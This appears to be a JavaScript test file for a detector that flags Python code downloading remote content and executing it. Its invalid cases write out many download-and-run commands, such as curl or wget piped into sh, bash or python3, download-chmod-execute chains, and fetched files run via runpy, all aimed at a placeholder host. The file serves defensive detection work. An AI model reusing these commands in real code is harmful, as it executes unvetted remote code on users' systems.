import { downloadToShell } from '../../../src/detectors/python/download-to-shell.js';
import { ruleTester } from '../../helpers/rule-tester.js';
import { PYTHON } from './adapter.js';

ruleTester(downloadToShell, PYTHON, {
  valid: [
    { name: 'nvidia-smi', input: "import os\nos.system('nvidia-smi')\n" },
    { name: 'git revision', input: "import subprocess\nrev = subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True).stdout\n" },
    {
      name: 'download and unzip a dataset',
      input: "import subprocess\nsubprocess.run('wget https://x.org/data.zip -O data.zip && unzip data.zip', shell=True)\n",
    },
    { name: 'download a checkpoint', input: "import os\nos.system('curl -L -o model.bin https://x.org/model.bin')\n" },
    { name: 'pretty-print a download', input: "import os\nos.system('curl -s https://x.org/api | python -m json.tool')\n" },
    { name: 'pip install', input: "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'torch'])\n" },
    { name: 'a pipe to a shell without a download', input: "import os\nos.system('echo ls | sh')\n" },
    { name: 'a downloaded archive unpacked', input: "import os, urllib.request\nurllib.request.urlretrieve(URL, 'data.tgz')\nos.system('tar xzf data.tgz')\n" },
    { name: 'a local script run', input: "import subprocess\nsubprocess.run(['bash', 'scripts/train.sh'])\n" },
  ],
  invalid: [
    {
      name: 'a held IPython shell runs curl | sh',
      input: "ip = get_ipython()\nip.system('curl -s http://x.org/a.sh | sh')\n",
      errors: [{ severity: 'critical', message: 'get_ipython().system', at: 'ip.system' }],
    },
    {
      name: 'a %%bash cell run through InteractiveShell.instance()',
      input: "from IPython import InteractiveShell\nInteractiveShell.instance().run_cell_magic('bash', '', 'wget -qO- http://x.org | bash')\n",
      errors: [{ severity: 'critical', message: 'run_cell_magic' }],
    },
    {
      name: 'IPython.utils.process.getoutput',
      input: "import IPython.utils.process as p\np.getoutput('curl http://x.org | sh')\n",
      errors: [{ severity: 'critical', message: 'IPython.utils.process.getoutput' }],
    },
    {
      name: 'curl | sh in os.system',
      input: "import os\nos.system('curl -s http://x.org/a.sh | sh')\n",
      errors: [{ severity: 'critical', message: 'pipes a download (curl) into sh', at: 'os.system' }],
    },
    {
      name: 'wget | bash inside bash -c',
      input: "import subprocess\nsubprocess.run(['bash', '-c', 'wget -qO- http://x.org | bash'])\n",
      errors: [{ severity: 'critical', message: 'wget' }],
    },
    {
      name: 'f-string command with sudo',
      input: 'import subprocess\nsubprocess.Popen(f"curl {url} | sudo bash", shell=True)\n',
      errors: [{ severity: 'critical', message: 'into bash' }],
    },
    {
      name: 'command substitution',
      input: 'import os\nos.system(\'sh -c "$(curl -fsSL http://x.org)"\')\n',
      errors: [{ severity: 'critical', message: 'runs the output of a download' }],
    },
    { name: 'process substitution', input: "import os\nos.system('bash <(curl -s http://x.org)')\n", errors: [{ severity: 'critical', message: 'with bash' }] },
    {
      name: 'download, chmod, run',
      input: "import os\nos.system('wget http://x.org/p -O /tmp/p && chmod +x /tmp/p && /tmp/p')\n",
      errors: [{ severity: 'critical', message: 'makes executable p' }],
    },
    { name: 'command in a variable', input: "import os\ncmd = 'curl http://x.org | sh'\nos.system(cmd)\n", errors: [{ severity: 'critical' }] },
    {
      name: "IPython's get_ipython().system",
      input: "get_ipython().system('curl http://x.org | sh')\n",
      errors: [{ severity: 'critical', message: 'get_ipython().system' }],
    },
    {
      name: 'subprocess under an alias',
      input: "import subprocess as sp\nsp.call('curl http://x.org|sh', shell=True)\n",
      errors: [{ severity: 'critical', message: 'subprocess.call' }],
    },
    {
      name: 'os.system reached by __import__',
      input: "__import__('os').system('curl http://x.org | python3')\n",
      errors: [{ severity: 'critical', message: 'into python3' }],
    },
    { name: 'os.execl argv', input: "import os\nos.execl('/bin/sh', 'sh', '-c', 'curl http://x.org | sh')\n", errors: [{ severity: 'critical' }] },
    {
      name: 'urlretrieve then bash',
      input: "import os, urllib.request\nurllib.request.urlretrieve('http://x.org/p.sh', '/tmp/p.sh')\nos.system('bash /tmp/p.sh')\n",
      errors: [{ severity: 'critical', message: 'runs p.sh, which urllib.request.urlretrieve downloaded', at: 'os.system' }],
    },
    {
      name: 'fetched bytes written, then run with runpy',
      input: "import requests, runpy\nr = requests.get(URL)\nwith open('stage2.py', 'wb') as f:\n    f.write(r.content)\nrunpy.run_path('stage2.py')\n",
      errors: [{ severity: 'critical', message: 'runpy.run_path at line 5, column 1 runs stage2.py, which requests.get downloaded' }],
    },
    {
      name: 'saved by one command, run by another',
      input: "import os\nos.system('wget http://x.org/i -O inst')\nos.system('chmod 755 inst')\n",
      errors: [{ severity: 'critical', message: 'makes executable inst' }],
    },
  ],
});
